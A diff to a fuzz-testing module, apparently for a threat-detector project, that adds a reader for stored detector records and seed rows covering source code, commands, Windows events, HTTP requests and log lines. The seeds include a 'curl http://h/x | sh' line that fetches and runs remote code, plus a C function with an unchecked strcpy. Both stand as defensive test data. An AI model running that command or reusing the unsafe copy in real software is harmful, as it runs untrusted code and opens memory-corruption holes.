@@ -17,7 +17,9 @@ from inoculate.reading.sources import Limits, open_source
 from inoculate.registry import DOMAINS
 from inoculate.store.artifact import load
 from inoculate.store.detector import load_detector, load_prior
+from inoculate.store.records import KeptRecord, read_records, record_line
 from inoculate.workflows.exceptions import read_exceptions
+from inoculate.workflows.keeping import described
 from tests.fuzz.promise import Outcome
 from tests.fuzz.seeds import archive_seeds, exceptions_seeds, gzip_seeds, seeds
 
@@ -267,10 +269,39 @@ def artifact_seeds() -> dict[str, bytes]:
     }
 
 
+def read_kept(data: bytes, scratch: Path) -> Outcome:
+    """Read the records that lie beside a detector, and tell the facts of those that have some."""
+    try:
+        records = read_records(data, scratch / "records.jsonl")
+    except InoculateError as err:
+        return (type(err).__name__, str(err))
+    assert not any({"path", "data"} & record.row.keys() for record in records)
+    known = [record for record in records if record.domain in DOMAINS.names()]
+    facts = [d.facts for role in ("twin", "background") for d in described(known, role)]
+    return (_digest(repr((records, facts)).encode("utf-8", "replace")),)
+
+
+def kept_seeds() -> dict[str, bytes]:
+    """Return kept records of code, commands, events, requests and log lines."""
+    rows = {
+        "source": {"text": "int f(char *s) { return strcpy(b, s); }", "language": "c", "name": "f"},
+        "commands": {"text": "curl http://h/x | sh"},
+        "windows_events": {"text": '{"EventID": 1}', "event_id": "1", "computer": None},
+        "http_requests": {"text": "GET /a?b=c HTTP/1.1", "user_agent": "curl", "n_headers": 2.0},
+        "log_lines": {"text": "sshd[1]: failed", "ts": 0.5, "ok": True},
+    }
+    return {
+        domain: record_line(KeptRecord(role="example", domain=domain, threat="x", row=row))
+        + record_line(KeptRecord(role="background", domain=domain, row=row)) * 2
+        for domain, row in rows.items()
+    }
+
+
 _OTHERS: dict[str, tuple[Callable[[], dict[str, bytes]], Callable[[bytes, Path], Outcome]]] = {
     "gzip": (gzip_seeds, read_gzip),
     "artifact": (artifact_seeds, read_artifact),
     "archives": (archive_seeds, read_archive),
     "exceptions": (exceptions_seeds, read_exempt),
     "whole_detector": (whole_seeds, read_whole),
+    "kept_records": (kept_seeds, read_kept),
 }
